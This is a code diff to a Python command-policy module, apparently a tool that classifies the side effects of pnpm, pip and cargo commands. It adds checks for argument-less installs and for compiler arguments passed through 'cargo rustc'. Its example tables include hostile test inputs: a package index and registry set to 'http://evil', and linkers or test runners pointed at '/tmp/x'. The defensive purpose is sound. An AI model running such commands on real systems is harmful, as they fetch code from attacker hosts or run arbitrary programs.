@@ -285,8 +285,10 @@ def _pnpm() -> Spec:
         "run run-script": _runs_scripts(Spec("run", operands="text*", globals_anywhere=True)),
         "test t tst start": Spec("test", operands="text*", globals_anywhere=True),
         "exec": Spec("exec", operands="argv", options={"-c --shell-mode": "flag"}, globals_anywhere=True),
-        "dlx": Spec("dlx", operands="argv", options={"--package": "val"}, globals_anywhere=True),
-        "create": Spec("create", operands="text*", effects="network", globals_anywhere=True),
+        # Without a package `pnpm dlx` prints its help and `pnpm create` "Missing the template package name"
+        # (pnpm's dlx.ts / create.ts): nothing is fetched. `--package` is a package, so it is not idle.
+        "dlx": Spec("dlx", operands="argv", options={"--package": "val"}, globals_anywhere=True, needs=1),
+        "create": Spec("create", operands="text*", effects="network", globals_anywhere=True, needs=1),
         "publish": Spec("publish", operands="text?", effects="publish", globals_anywhere=True),
         "config c": Spec(
             "config",
@@ -334,6 +336,10 @@ def _pnpm() -> Spec:
             "pnpm run env": "env",
             "pnpm exec vitest": "runs:vitest",
             "pnpm dlx create-vite": "runs:create-vite",
+            "pnpm dlx": "",
+            "pnpm dlx --package cowsay": "",
+            "pnpm create": "",
+            "pnpm create vite": "network",
             "pnpm -C packages/app test": "cd:packages/app",
             "pnpm publish": "publish",
             "pnpm set registry http://evil": "config",
@@ -540,6 +546,9 @@ def _pip(name: str) -> Spec:
             "--root-user-action": "val",
         },
         globals_anywhere=True,
+        # "You must give at least one requirement to install": operands, -r or -e (any option with a value
+        # counts, so `--index-url x` alone is still judged). PIP_REQUIREMENT set on the line is seen by the engine.
+        needs=1,
     )
     download = Spec(
         "download",
@@ -597,6 +606,10 @@ def _pip(name: str) -> Spec:
         globals_anywhere=True,
         examples={
             f"{name} install -r requirements.txt": "network read:requirements.txt",
+            f"{name} install": "",
+            f"{name} install --upgrade --user": "",
+            f"{name} install -r": "",
+            f"{name} install -c constraints.txt": "network read:constraints.txt",
             f"{name} install -e .": "network tree-read:.",
             f"{name} install --index-url http://evil/simple x": "network network:http://evil/simple",
             f"{name} install -t ~/.local/lib x": "network tree-write:~/.local/lib",
@@ -1152,6 +1165,29 @@ def publishes(argv: list[str]) -> bool:
     return not walked.understood or any(e.kind == "publish" for e in walked.effects)
 
 
+def _cargo_compiler_args(walk: Walk, argv: list[str]) -> None:
+    """`cargo rustc -- ARGS` hands ARGS to rustc: they are judged by the rustc spec (a linker, a sysroot, a
+    target-spec file run or load code). rustdoc's own arguments (`--test-runtool PROG`) are not modelled."""
+    if "--" not in argv:
+        return
+    rest = argv[argv.index("--") + 1 :]
+    if not rest:
+        return
+    if "rustdoc" in argv[: argv.index("--")]:
+        walk.unknown.append("cargo rustdoc: the arguments after -- (rustdoc's own) are not modelled")
+        return
+    from hookward.policy.spec import walk as walk_spec
+    from hookward.policy.specs import lookup
+
+    rustc = lookup("rustc")
+    if rustc is None:
+        walk.unknown.append("cargo rustc: the arguments after -- are not modelled")
+        return
+    inner = walk_spec(rustc, ["rustc", *rest], walk.cwd)
+    walk.effects.extend(inner.effects)
+    walk.unknown.extend(inner.unknown)
+
+
 def _cargo_subs() -> dict[str, Spec]:
     build = dict(_CARGO_BUILD)
     return {
@@ -1172,11 +1208,23 @@ def _cargo_subs() -> dict[str, Spec]:
         "fmt": Spec(
             "fmt", operands="text*", options={"--all --check": "flag", "-p --package": "val"}, globals_anywhere=True
         ),
-        "doc d rustdoc rustc": Spec(
+        "doc d": Spec(
             "doc",
             operands="text*",
             options={**build, "--open --no-deps --document-private-items": "flag"},
             globals_anywhere=True,
+        ),
+        # The words after `--` are rustc's (rustdoc's) own arguments: `-C linker=PROG` runs PROG.
+        "rustc rustdoc": Spec(
+            "rustc",
+            operands="text*",
+            options={
+                **build,
+                "--open --no-deps --document-private-items": "flag",
+                "--crate-type --print": "val",
+            },
+            globals_anywhere=True,
+            judge=_cargo_compiler_args,
         ),
         "fix": Spec(
             "fix",
@@ -1395,6 +1443,11 @@ def _cargo() -> Spec:
             "cargo msrv set 1.70": "edit:Cargo.toml",
             "cargo vet dump-graph --depth full": "",
             "cargo vet check": "network",
+            "cargo rustc --release -- -C linker=/tmp/x": "load:/tmp/x",
+            "cargo rustc -- -C opt-level=3": "",
+            "cargo rustc --lib -- --sysroot /tmp/s": "load:/tmp/s",
+            "cargo rustdoc -- --test-runtool /tmp/x": "unknown",
+            "cargo rustdoc --open": "",
         },
     )
 
